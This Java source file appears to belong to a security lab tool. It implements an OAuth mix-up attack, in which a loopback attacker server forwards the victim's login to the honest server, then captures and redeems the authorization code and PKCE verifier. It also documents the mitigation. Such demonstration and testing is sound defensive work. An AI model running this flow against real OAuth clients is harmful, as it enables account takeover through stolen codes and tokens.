package dev.gatehouse.desktop.attack;

import com.google.auto.service.AutoService;
import dev.gatehouse.desktop.attack.LoopbackServer.Answer;
import dev.gatehouse.desktop.attack.LoopbackServer.Received;
import dev.gatehouse.desktop.exchange.Hop;
import dev.gatehouse.desktop.oauth.BuiltInBrowser;
import dev.gatehouse.desktop.oauth.ClientSettings;
import dev.gatehouse.desktop.oauth.CodeFlow;
import dev.gatehouse.desktop.oauth.FlowException;
import dev.gatehouse.desktop.oauth.Parameters;
import java.net.URI;
import java.time.Clock;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;

/** Sends the victim from the attacker's authorization server on to the honest one. */
@AutoService(Attack.class)
public final class OauthMixUp implements Attack {
  /** What Alice's program is registered as at the attacker's server. */
  private static final String THERE = "alices-program";

  @Override
  public AttackCard card() {
    return new AttackCard(
        "oauth-mix-up",
        "One server's code for another",
        AttackGroup.OAUTH,
        "Alice's program asks the attacker's authorization server, which sends her on to the honest one and waits for the code.",
        "An authorization server of their own, which Alice's program offers to log in with.",
        "The program takes the code to the server that it asked, though it was given by another.",
        "client-ignores-iss",
        List.of("RFC 9700 §4.4", "RFC 9207 §1"),
        "Compare the iss of each answer with the server that was asked (RFC 9207 §2.4), or use another redirect address for each server.");
  }

  @Override
  public AttackResult run(Target target) throws InterruptedException {
    List<String> caught = new CopyOnWriteArrayList<>();
    try (LoopbackServer attackers =
        LoopbackServer.open(received -> answer(received, target.base(), caught))) {
      login(target, attackers.uri());
    }
    AskedPerson alice = new AskedPerson(target);
    Map<String, String> form = Parameters.read(String.join("&", caught));
    String code = form.getOrDefault("code", "");
    if (code.isEmpty()) {
      return target.end(false, Events.GAIN);
    }
    target.makes("Her program brings code and verifier to the attacker.", "code", code);
    Hop tokens =
        alice.tokens(
            AttackStep.ATTACKER,
            "Redeem them at the honest server.",
            AskedPerson.redeeming(
                code,
                "redirect_uri",
                form.getOrDefault("redirect_uri", ""),
                "code_verifier",
                form.getOrDefault("code_verifier", "")));
    return alice.use(tokens);
  }

  /** Alice logs in with the attacker's server. It gives her program no token in any case. */
  private static void login(Target target, URI attackers) throws InterruptedException {
    ClientSettings settings = new ClientSettings(attackers.toString(), THERE, "", "events:read");
    BuiltInBrowser browser =
        new BuiltInBrowser(Loot.VICTIM, target.loot().secret(Loot.VICTIM, "password"));
    try {
      new CodeFlow(settings, "http://127.0.0.1/callback", false, false, browser)
          .granted(target.wireOf(AttackStep.VICTIM), Clock.systemUTC());
    } catch (FlowException stopped) {
      // By a check, or at the latest by the attacker's server, which gives no token.
      return;
    }
  }

  private static Answer answer(Received received, URI honest, List<String> caught) {
    return switch (received.path()) {
      case "/.well-known/openid-configuration" ->
          Answer.json(
              200,
              """
              {"issuer":"%1$s","authorization_endpoint":"%1$s/authorize","token_endpoint":"%1$s/token"}\
              """
                  .formatted(received.server()));
      case "/authorize" -> {
        Map<String, String> request = new LinkedHashMap<>(Parameters.read(received.query()));
        request.put("client_id", AskedPerson.CLIENT);
        yield Answer.redirect(honest + "/oauth/authorize?" + Parameters.write(request));
      }
      default -> {
        caught.add(received.body());
        yield Answer.json(400, "{\"error\":\"invalid_grant\"}");
      }
    };
  }
}
